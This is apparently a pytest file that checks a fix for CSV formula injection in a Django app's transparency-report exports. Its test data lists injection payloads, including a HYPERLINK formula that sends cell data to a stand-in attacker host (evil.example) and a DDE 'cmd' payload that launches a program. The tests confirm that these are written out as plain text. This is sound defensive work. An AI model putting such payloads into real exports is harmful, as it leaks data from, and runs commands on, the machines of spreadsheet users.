"""Issue 24, low: CSV exports wrote cells as given, so a name such as
``=HYPERLINK("https://evil.example/?"&A1,"open")`` (a unit, a category, a sanction: any
label an administrator or a protocol chooses) ran as a formula in the reader's
spreadsheet. Cells starting with ``=``, ``+``, ``-`` or ``@`` are now written as text."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command

from docket.core.csvsafe import safe_cell

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]


class Report:
    def csv_rows(self):
        yield ["table", "row", "column", "value"]
        for label in HOSTILE:
            yield ["by_unit", label, "count", "3"]


@pytest.fixture
def hostile_report(monkeypatch):
    import docket.reports.transparency as transparency
    import docket.reports.views as views

    monkeypatch.setattr(views, "transparency_report", lambda *a, **k: Report())
    monkeypatch.setattr(transparency, "transparency_report", lambda *a, **k: Report())


def cells(text: str) -> list[str]:
    return [row[1] for row in csv.reader(io.StringIO(text))][1:]


def assert_inert(found: list[str]) -> None:
    assert len(found) == len(HOSTILE)
    for cell, label in zip(found, HOSTILE, strict=True):
        assert cell == "'" + label
        assert not cell.startswith(("=", "+", "-", "@", "\t"))


@pytest.mark.django_db
def test_the_transparency_csv_page_writes_formulas_as_text(client, make_user, hostile_report):
    client.force_login(make_user())
    response = client.get("/reports/transparency.csv?from=2021-01-01&to=2021-12-31")
    assert response.status_code == 200
    assert_inert(cells(response.content.decode()))


@pytest.mark.django_db
def test_the_transparency_csv_command_writes_formulas_as_text(hostile_report, tmp_path):
    out = tmp_path / "t.csv"
    call_command(
        "report", "transparency", "--from", "2021-01-01", "--to", "2021-12-31", "--csv", str(out)
    )
    assert_inert(cells(out.read_text()))


def test_plain_cells_are_left_alone():
    assert safe_cell("Harbor branch") == "Harbor branch"
    assert safe_cell("3") == "3"
    assert safe_cell(3) == 3
